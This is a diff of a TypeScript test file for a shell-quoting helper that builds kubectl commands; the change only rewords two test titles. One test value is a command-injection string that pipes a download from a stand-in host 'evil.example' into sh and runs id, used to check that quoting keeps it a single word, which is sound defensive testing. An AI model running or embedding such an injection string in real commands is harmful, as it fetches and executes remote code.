@@ -15,14 +15,14 @@ function wordsOf(line: string): string[] {
 
 const evil = `x'; curl evil.example|sh; '$(id)\`id\`\\"\n#`;
 
-test('what needs no quotes has none', () => {
+test('a word that needs no quotes has none', () => {
   expect(
     shell`kubectl label namespace ${'shop'} ${'packet-capture/injection'}=enabled ${['--context', 'a@b']} ${[]}`,
   ).toBe('kubectl label namespace shop packet-capture/injection=enabled --context a@b');
   expect(shellWord('')).toBe("''");
 });
 
-test('a value is one word, whatever it holds', () => {
+test('a value is one word, whatever it contains', () => {
   expect(wordsOf(shell`kubectl label ${evil} ${evil}=${evil} ${[evil, 'b']} ${5}`)).toEqual([
     'kubectl',
     'label',
